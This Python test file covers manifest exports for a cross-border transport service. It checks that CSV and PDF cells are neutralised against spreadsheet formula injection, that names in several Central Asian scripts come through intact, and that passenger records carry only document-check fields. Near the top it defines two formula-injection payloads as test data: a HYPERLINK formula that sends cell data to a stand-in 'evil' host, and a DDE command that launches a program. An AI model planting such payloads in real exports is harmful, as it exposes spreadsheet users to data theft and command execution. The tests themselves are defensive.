"""Manifest exports: no cell a spreadsheet would run as a formula (finding 8), and a manifest carries
only what a border post needs to check a traveller against the document in hand."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from pypdf import PdfReader

from contracts.transport import ManifestPassenger
from services.transport.domain import inert_cell, manifest_csv
from services.transport.pdf import ManifestFonts, MissingFont, manifest_pdf

# The two payloads of the security review, tried against a real export.
HYPERLINK = '=HYPERLINK("http://evil/?"&A1,"click")'
DDE = "+cmd|' /C calc'!A0"


def passenger(surname: str, given_names: str = "Ali", number: str = "401234567") -> ManifestPassenger:
    return ManifestPassenger(
        case_id=uuid.uuid4(),
        person_id=uuid.uuid4(),
        surname=surname,
        given_names=given_names,
        birth_date=date(1990, 5, 1),
        sex="M",
        nationality="TJK",
        document_type="passport",
        document_number=number,
    )


@pytest.mark.parametrize(
    ("cell", "inert"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("Karimov", "Karimov"),
        ("O'Neil", "O'Neil"),
        ("Nazarova-Karimova", "Nazarova-Karimova"),  # a hyphen inside a name is a name
        ("", ""),
    ],
)
def test_a_cell_starting_with_a_formula_prefix_is_made_text(cell: str, inert: str) -> None:
    assert inert_cell(cell) == inert


def test_the_review_s_payloads_come_out_of_the_csv_as_text() -> None:
    exported = manifest_csv([passenger(HYPERLINK, DDE), passenger("Karimov", "@Ali", "-401")])
    rows = list(csv.reader(io.StringIO(exported)))
    assert rows[1][2:4] == ["'" + HYPERLINK, "'" + DDE]
    assert rows[2][2:4] == ["Karimov", "'@Ali"]
    assert rows[2][-1] == "'-401"
    cells = [c for row in rows[1:] for c in row]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


def _pdf(passengers: list[ManifestPassenger]) -> bytes:
    return manifest_pdf(
        movement_id="MOV-1",
        vehicle_id="BUS-1",
        route="kaz-uzb-tjk",
        departure="2026-12-01",
        revision=1,
        passengers=passengers,
        printed_at=datetime(2026, 12, 1, tzinfo=UTC),
        printed_by="kaz-duty",
        fonts=ManifestFonts.dejavu(),
    )


def _text(document: bytes) -> str:
    """The text a reader (or a copy and paste) gets out of the PDF."""
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(document)).pages)


def test_the_pdf_shows_the_payloads_as_text_too() -> None:
    text = _text(_pdf([passenger("=CMD", "+Ali")]))
    assert "'=CMD" in text and "'+Ali" in text


# Names as intake accepts and keeps them: Uzbek Latin with the modifier letter turned comma
# (U+02BB, not an apostrophe), Tajik Latin and Cyrillic with Tajik's own letters, Russian, Kazakh.
NAMES = [
    ("Oʻrinov", "Gʻulom"),
    ("Qodirova", "Shoʻhrat Oʻgʻiloy"),
    ("Қодиров", "Ғуломҷон"),
    ("Раҳимзода", "Зарина Ӯлмасовна"),
    ("Щербакова", "Юлия Ёсифовна"),
    ("Сәрсенбаев", "Нұрлан Өмірұлы"),
    ("Nazarova-Karimova", "Ḩabiba"),
]


def test_the_pdf_prints_every_name_exactly_as_registered_in_any_script() -> None:
    document = _pdf([passenger(surname, given) for surname, given in NAMES])
    words = _text(document).split()
    for surname, given in NAMES:
        for word in (surname, *given.split()):
            assert word in words, f"{word!r} is not in the manifest as registered"
    assert "?" not in "".join(words), "a character was replaced"


def test_the_csv_keeps_every_script_too() -> None:
    rows = list(csv.reader(io.StringIO(manifest_csv([passenger(s, g) for s, g in NAMES]))))
    assert [(r[2], r[3]) for r in rows[1:]] == NAMES


def test_a_missing_font_stops_the_service_at_start_with_what_to_install(tmp_path: Path) -> None:
    with pytest.raises(MissingFont, match="fonts-dejavu-core"):
        ManifestFonts.dejavu(tmp_path)


def test_a_manifest_passenger_carries_only_what_a_post_checks_a_document_against() -> None:
    # Names, birth date, sex, nationality and the document: the fields of a machine-readable zone.
    # No phone number, address, vulnerability or health fact: a post does not need them, and a
    # new field here is personal data sent to every post on the route.
    assert set(ManifestPassenger.model_fields) == {
        "case_id",
        "person_id",
        "surname",
        "given_names",
        "birth_date",
        "sex",
        "nationality",
        "document_type",
        "document_number",
    }
